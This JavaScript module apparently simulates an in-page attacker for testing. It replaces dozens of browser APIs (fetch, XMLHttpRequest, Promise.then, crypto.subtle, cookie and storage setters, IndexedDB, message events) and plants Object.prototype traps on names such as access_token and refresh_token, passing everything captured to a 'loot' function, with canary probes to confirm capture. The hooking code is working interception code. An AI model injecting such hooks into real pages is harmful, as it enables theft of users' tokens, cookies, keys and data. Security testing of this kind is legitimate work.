// Functions and constructors of the browser that an attacker replaces to hear what passes through them.
// Each spy says what it heard; `probe` calls what it replaced, to show that it hears.
import { loot } from "./attacker.js";

const { apply, construct, defineProperty, get, getOwnPropertyDescriptor, ownKeys } = Reflect;
const { then } = Promise.prototype;
const NativePromise = Promise;
const NativeProxy = Proxy;
const NativeObject = Object;
const { stringify } = JSON;

/**
 * What each spy replaces: methods by the name of their owner, constructors, setters.
 *
 * @type {Record<string, { methods?: Record<string, string[]>, classes?: string[],
 *   also?: (hear: (value: unknown) => void) => void, probe: (canary: string) => unknown }>}
 */
export const SPIES = {
  "replaces fetch": {
    methods: { window: ["fetch"] },
    probe: (canary) => fetch(`data:,${canary}`).catch(() => {}),
  },
  "replaces XMLHttpRequest": {
    classes: ["XMLHttpRequest"],
    methods: { "XMLHttpRequest.prototype": ["open", "send", "setRequestHeader"] },
    probe: (canary) => new XMLHttpRequest().open("GET", `/${canary}`),
  },
  "replaces Headers": {
    classes: ["Headers"],
    methods: { "Headers.prototype": ["append", "set", "get", "entries", "forEach"] },
    probe: (canary) => new Headers({ "X-Test": canary }).append("X-Test", canary),
  },
  "replaces Request": {
    classes: ["Request"],
    methods: { "Request.prototype": ["clone", "text", "arrayBuffer"] },
    probe: (canary) => new Request(`/${canary}`),
  },
  "replaces Response": {
    classes: ["Response"],
    methods: { "Response.prototype": ["text", "json", "arrayBuffer", "blob", "clone"] },
    probe: (canary) => new Response(canary).text(),
  },
  "replaces the methods of streams": {
    classes: ["ReadableStream"],
    methods: {
      "ReadableStream.prototype": ["getReader", "tee", "pipeTo"],
      "ReadableStreamDefaultReader.prototype": ["read"],
    },
    probe: (canary) => new Response(canary).body.getReader().read(),
  },
  "replaces Promise.prototype.then": {
    methods: { "Promise.prototype": ["catch", "finally"] },
    also(hear) {
      defineProperty(Promise.prototype, "then", {
        configurable: true,
        writable: true,
        value(onResult, onError) {
          const heard = (next) =>
            typeof next === "function"
              ? (value) => {
                  hear(value);
                  return next(value);
                }
              : next;
          return apply(then, this, [heard(onResult), heard(onError)]);
        },
      });
    },
    probe: (canary) => NativePromise.resolve(canary).then((value) => value),
  },
  "replaces Promise": {
    methods: { Promise: ["resolve", "reject", "all", "race", "allSettled"] },
    probe: (canary) => Promise.resolve(canary),
  },
  "replaces JSON": {
    methods: { JSON: ["parse", "stringify"] },
    probe: (canary) => JSON.parse(stringify(canary)),
  },
  "replaces TextEncoder and TextDecoder": {
    methods: {
      "TextEncoder.prototype": ["encode", "encodeInto"],
      "TextDecoder.prototype": ["decode"],
    },
    probe: (canary) => new TextEncoder().encode(canary),
  },
  "replaces crypto.subtle": {
    methods: {
      "SubtleCrypto.prototype":
        "digest sign verify encrypt decrypt importKey exportKey generateKey".split(" "),
      "Crypto.prototype": ["getRandomValues", "randomUUID"],
    },
    probe: (canary) => crypto.subtle.importKey("raw", bytes(canary), "HKDF", false, ["deriveBits"]),
  },
  "replaces MessagePort and MessageChannel": {
    classes: ["MessageChannel"],
    methods: { "MessagePort.prototype": ["postMessage", "start"], window: ["postMessage"] },
    also(hear) {
      const { get: data } = getOwnPropertyDescriptor(MessageEvent.prototype, "data");
      defineProperty(MessageEvent.prototype, "data", {
        configurable: true,
        get() {
          const value = apply(data, this, []);
          hear(value);
          return value;
        },
      });
    },
    probe: (canary) => new MessageChannel().port1.postMessage(canary),
  },
  "replaces Worker": {
    classes: ["Worker"],
    methods: { "Worker.prototype": ["postMessage"] },
    probe(canary) {
      try {
        new Worker(canary, 7);
      } catch {
        // What Trusted Types refuse was heard all the same.
      }
    },
  },
  "replaces SharedWorker": {
    classes: ["SharedWorker"],
    probe(canary) {
      try {
        new SharedWorker(canary, 7);
      } catch {
        // As for Worker.
      }
    },
  },
  "replaces WebAssembly": {
    methods: {
      WebAssembly: [
        "compile",
        "instantiate",
        "compileStreaming",
        "instantiateStreaming",
        "validate",
      ],
    },
    classes: ["WebAssembly.Module", "WebAssembly.Instance", "WebAssembly.Memory"],
    probe: (canary) => WebAssembly.validate(bytes(canary)),
  },
  "replaces setTimeout and queueMicrotask": {
    methods: { window: ["setTimeout", "setInterval", "queueMicrotask", "requestAnimationFrame"] },
    probe: (canary) => setTimeout(() => {}, 0, canary),
  },
  "replaces addEventListener and dispatchEvent": {
    methods: { "EventTarget.prototype": ["addEventListener", "dispatchEvent"] },
    probe: (canary) => addEventListener(canary, () => {}),
  },
  "replaces BroadcastChannel": {
    classes: ["BroadcastChannel"],
    methods: { "BroadcastChannel.prototype": ["postMessage"] },
    probe: (canary) => new BroadcastChannel(canary).close(),
  },
  "replaces navigator.locks": {
    methods: { "LockManager.prototype": ["request", "query"] },
    probe: (canary) => navigator.locks.request(canary, () => {}),
  },
  "replaces IndexedDB's methods": {
    methods: {
      "IDBObjectStore.prototype": ["put", "add", "get", "getAll", "delete"],
      "IDBFactory.prototype": ["open"],
    },
    also(hear) {
      const { get: result } = getOwnPropertyDescriptor(IDBRequest.prototype, "result");
      defineProperty(IDBRequest.prototype, "result", {
        configurable: true,
        get() {
          const value = apply(result, this, []);
          hear(value);
          return value;
        },
      });
    },
    async probe(canary) {
      const opening = indexedDB.open(canary);
      await new NativePromise((done) => opening.addEventListener("success", done));
      opening.result.close();
      indexedDB.deleteDatabase(canary);
    },
  },
  "replaces the console": {
    methods: { console: ["debug", "error", "info", "log", "trace", "warn"] },
    probe: (canary) => console.debug(canary),
  },
  "replaces structuredClone": {
    methods: { window: ["structuredClone"] },
    probe: (canary) => structuredClone(canary),
  },
  "replaces URL and URLSearchParams": {
    classes: ["URL", "URLSearchParams"],
    methods: { "URLSearchParams.prototype": ["get", "set", "append", "toString"] },
    probe: (canary) => new URL(`https://${canary}.example`),
  },
  "replaces history's methods": {
    methods: { "History.prototype": ["pushState", "replaceState"] },
    probe: (canary) => history.replaceState({ canary }, ""),
  },
  "replaces the storage's and the cookies' setters": {
    methods: { "Storage.prototype": ["setItem", "getItem"] },
    also(hear) {
      const { get: read, set } = getOwnPropertyDescriptor(Document.prototype, "cookie");
      defineProperty(document, "cookie", {
        configurable: true,
        get: () => apply(read, document, []),
        set(value) {
          hear(value);
          apply(set, document, [value]);
        },
      });
    },
    probe: (canary) => sessionStorage.getItem(canary),
  },
  "replaces Array's methods": {
    methods: {
      "Array.prototype": "push concat join map forEach filter slice splice entries".split(" "),
    },
    probe: (canary) => [canary].concat([]),
  },
  "replaces String's methods": {
    methods: {
      "String.prototype": "split replace replaceAll slice trim startsWith charCodeAt concat".split(
        " ",
      ),
      String: ["fromCharCode", "fromCodePoint"],
    },
    probe: (canary) => canary.startsWith("x"),
  },
  "replaces the methods of typed arrays": {
    methods: {
      "Uint8Array.__proto__.prototype": ["set", "subarray", "slice", "fill"],
      "Uint8Array.__proto__": ["from", "of"],
    },
    probe: (canary) => bytes(canary).slice(0),
  },
  "replaces call, apply and bind": {
    methods: { "Function.prototype": ["call", "apply", "bind"] },
    probe: (canary) => String.call(undefined, canary),
  },
  "replaces Object's and Reflect's functions": {
    methods: {
      Object: "assign entries fromEntries freeze defineProperty create values".split(" "),
      Reflect: ["get", "set", "apply", "construct"],
    },
    probe: (canary) => Object.assign({}, { canary }),
  },
  "replaces Map, Set and WeakMap": {
    methods: {
      "Map.prototype": ["get", "set"],
      "Set.prototype": ["add", "has"],
      "WeakMap.prototype": ["get", "set"],
    },
    probe: (canary) => new Map().set(canary, 1),
  },
  "replaces Blob, File and FormData": {
    classes: ["Blob", "File", "FormData"],
    methods: { "FormData.prototype": ["append", "set"], "Blob.prototype": ["text", "arrayBuffer"] },
    probe: (canary) => new FormData().append("x", canary),
  },
  "replaces Trusted Types and the service workers' methods": {
    methods: {
      "TrustedTypePolicyFactory.prototype": ["createPolicy"],
      "ServiceWorkerContainer.prototype": ["register", "getRegistration"],
    },
    probe: (canary) => navigator.serviceWorker.getRegistration(`/${canary}`),
  },
  "has Object.prototype hear of every promise and every token's name": {
    also(hear) {
      // A promise that is resolved with an object asks it for `then`.
      const names = ["then", "access_token", "refresh_token", "id_token", "token", "code", "body"];
      for (const name of names) {
        defineProperty(Object.prototype, name, {
          configurable: true,
          get() {
            hear(this);
            return undefined;
          },
          set(value) {
            hear([this, value]);
            defineProperty(this, name, {
              value,
              configurable: true,
              enumerable: true,
              writable: true,
            });
          },
        });
      }
    },
    probe: (canary) => NativePromise.resolve({ canary }),
  },
};

/** @param {string} text */
function bytes(text) {
  return new TextEncoder().encode(text);
}

/** Installs every spy. */
export function install() {
  for (const [name, { methods = {}, classes = [], also }] of NativeObject.entries(SPIES)) {
    const hear = (value) => loot(name, value);
    for (const [path, members] of NativeObject.entries(methods)) {
      const owner = at(path);
      if (!owner) continue;
      for (const member of members) replaceMethod(owner, member, hear);
    }
    for (const path of classes) replaceClass(path, hear);
    also?.(hear);
  }
}

/** Has each spy hear a word of its own, to show that it hears. */
export async function probeAll(canaries) {
  for (const [name, canary] of NativeObject.entries(canaries)) {
    await NativePromise.resolve(SPIES[name]?.probe(canary)).catch(() => {});
  }
}

/** @param {string} path of names, from the window */
function at(path) {
  let owner = window;
  if (path === "window") return owner;
  for (const name of path.split(".")) owner = owner?.[name];
  return owner;
}

function replaceMethod(owner, name, hear) {
  const native = getOwnPropertyDescriptor(owner, name)?.value ?? get(owner, name);
  if (typeof native !== "function") return;
  defineProperty(owner, name, {
    configurable: true,
    writable: true,
    value(...args) {
      hear(args);
      const result = apply(native, this, args);
      if (result instanceof NativePromise) apply(then, result, [hear, hear]);
      else hear(result);
      return result;
    },
  });
}

function replaceClass(path, hear) {
  const names = path.split(".");
  const name = names.pop();
  const owner = names.length > 0 ? at(names.join(".")) : window;
  if (!owner?.[name]) return;
  const look = (made) => {
    if (!(made instanceof WebAssembly.Instance)) return made;
    for (const key of ownKeys(made.exports)) {
      const { buffer } = made.exports[key];
      if (buffer) hear(buffer);
    }
    return made;
  };
  owner[name] = new NativeProxy(owner[name], {
    construct(target, args, newTarget) {
      hear(args);
      return look(construct(target, args, newTarget));
    },
    apply(target, self, args) {
      hear(args);
      return look(apply(target, self, args));
    },
  });
}
